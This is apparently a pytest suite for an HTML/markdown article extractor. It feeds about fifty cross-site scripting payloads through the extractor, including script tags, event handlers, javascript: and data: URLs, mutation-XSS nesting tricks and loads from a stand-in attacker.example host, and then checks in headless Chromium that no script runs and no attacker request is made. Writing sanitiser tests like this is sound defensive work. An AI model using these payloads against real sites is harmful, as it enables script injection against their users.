"""Known attacks on those who show HTML: nothing of what comes out runs or loads, in a real browser either."""

from __future__ import annotations

import shutil
from pathlib import Path
from typing import Any

import pytest

from extractor import Extractor, NoContentError

RUN = "window.ran=1"
ATTACKS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT SRC=//attacker.example/x></SCRIPT><script x>{RUN}</script\t\n>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror = '{RUN}'//",
    f'<img """><script>{RUN}</script>">',
    f"<img src=`x` onerror=`{RUN}`>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}><svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<math><mi//xlink:href='data:x,<script>{RUN}</script>'>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<textarea><img title='</textarea><img src=x onerror={RUN}>'></textarea>",
    f"<title><img title='</title><img src=x onerror={RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'></xmp>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe><iframe src='javascript:parent.ran=1'></iframe>",
    "<iframe src=//attacker.example/x></iframe><object data=//attacker.example/x></object><embed src=//attacker.example/x>",
    f"<body onload={RUN}><frameset onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}><keygen autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video><audio src=x onerror={RUN}>",
    f"<video src=//attacker.example/x poster=javascript:{RUN}//></video>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\nscript:{RUN}'>x</a><a href='java&#x09;script:{RUN}'>x</a><a href=' &#14; javascript:{RUN}'>x</a>",
    f"<a href='&#106;&#97;&#118;&#97;&#115;cript:{RUN}'>x</a><a href='JaVaScRiPt:{RUN}'>x</a>",
    f"<a href='\x01javascript:{RUN}'>x</a><a href='javascript&colon;{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a><a href=vbscript:x>x</a>",
    f"<a href='http://a.example/\"onmouseover=\"{RUN}'>x</a><img alt='\"onerror=\"{RUN}' src=x>",
    f"<a href='http://a.example/' style='background:url(javascript:{RUN})' onclick={RUN}>x</a>",
    "<div style='background:url(//attacker.example/x)'>x</div><style>@import '//attacker.example/x';</style>",
    "<link rel=stylesheet href=//attacker.example/x><link rel=import href=//attacker.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'><base href=javascript:/a/>",
    f"<table background=javascript:{RUN}><tr><td background=javascript:{RUN}>x</table>",
    f"<form action=javascript:{RUN}><button formaction=javascript:{RUN}>x</button><input type=image src=x></form>",
    f"<isindex action=javascript:{RUN} type=image><bgsound src=javascript:{RUN}>",
    f"<!--><img src=x onerror={RUN}>--><!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]><?php <img src=x onerror={RUN}> ?>",
    f"<template><script>{RUN}</script></template><plaintext><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;lt;img src=x onerror={RUN}&amp;gt;",
    f"<p title='&quot;&gt;&lt;img src=x onerror={RUN}&gt;'>x</p><pre><code>&lt;img src=x onerror={RUN}&gt;</code></pre>",
    f"<img src='http://a.example/x.jpg' alt='&lt;/p&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"\ue000td\ue000<b>\ue000script\ue000{RUN}<table><tr><td>\ue000img src=x onerror={RUN}\ue000</td><td>x</td></tr></table>",
    f"<x-card onclick={RUN}><b is=x-card>x</b></x-card><slot name=x onslotchange={RUN}>",
]
MARKDOWN = [
    f"[x](javascript:{RUN}) [x](<javascript:{RUN}>) [x]( javascript:{RUN}) [x][a]\n\n[a]: javascript:{RUN}",
    f"![x](x\"onerror=\"{RUN}) ![x\"onerror=\"{RUN}](x) [x](http://a.example/\"onclick=\"{RUN})",
    f"<javascript:{RUN}> <img src=x onerror={RUN}> `<script>{RUN}</script>` $<img src=x onerror={RUN}>_1$",
    f"```\n</code></pre><script>{RUN}</script>\n```\n\n| a |\n| --- |\n| <script>{RUN}</script> |",
]  # fmt: skip
PROSE = "<p>The harbour master counted forty small boats before the fog came in, and none had a radio on board.</p>"
EXTRACTORS = [Extractor(), Extractor(mode="fast"), Extractor(mode="readability")]


def frames(attack: str) -> list[str]:
    """The attack as a fragment, in a page, in a post, beside prose, in a row, in its head and in its header."""
    return [
        f"<p>{attack}</p>",
        f"<html><body><article>{PROSE * 3}<p>before {attack} behind it.</p>{attack}{PROSE * 3}</article></body></html>",
        f"<html><head><title>{attack}</title><meta name=author content='{attack}'></head><body>{PROSE * 6}{attack}",
        f"---\ntitle: x\n---\n<h2>{attack}</h2>{PROSE}<ul><li>{attack}</ul><table><tr><td>a {attack}<td>b {attack}</table>",
        f"---\ntitle: x\nauthor: {attack!r}\n---\n# x\n\nThe harbour master counted {attack} forty boats.\n\n- {attack}\n\n> {attack}",
    ]


def written() -> list[str]:
    """The HTML of every article that the attacks make."""
    found: dict[str, None] = {}
    posts = [
        f"---\ntitle: x\n---\n# x\n\nThe harbour master counted forty boats.\n\n{attack}\n\nEnd." for attack in MARKDOWN
    ]
    for content in [*(frame for attack in ATTACKS for frame in frames(attack)), *posts]:
        for extractor in EXTRACTORS:
            try:
                found[extractor.extract(content).html] = None
            except NoContentError:
                continue
    return [*found]


@pytest.fixture(scope="module")
def outputs() -> list[str]:
    return written()


def test_there_are_many(outputs: list[str]) -> None:
    assert len(outputs) > 100


def test_nothing_runs_and_nothing_is_loaded_in_a_browser(outputs: list[str], tmp_path: Path) -> None:
    api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
    chromium = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
    if chromium is None:
        pytest.skip("there is no chromium; Debian: apt install chromium")
    requested: list[str] = []
    ran: list[str] = []
    with api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium)
        page: Any = browser.new_page()
        page.on("dialog", lambda dialog: ran.append(dialog.message))
        page.route("**/*", lambda route: (requested.append(route.request.url), route.abort()))
        control = f"<p>x</p><img src=x onerror={RUN}>"
        for html in [*outputs, control]:
            page.evaluate("delete window.ran")
            page.set_content(f"<!doctype html><body>{html}</body>", wait_until="load")
            page.evaluate(
                "document.querySelectorAll('a, img, p').forEach(e => e.dispatchEvent(new MouseEvent('mouseover')))"
            )
            page.evaluate(
                "document.querySelectorAll('a[href]').forEach(e => { if (!/^https?:/.test(e.href)) e.click() })"
            )
            if page.evaluate("window.ran"):
                ran.append(html)
        browser.close()
    assert ran == [control], "the last is what a page that is not sanitised does"
    assert not [url for url in requested if "attacker.example" in url]
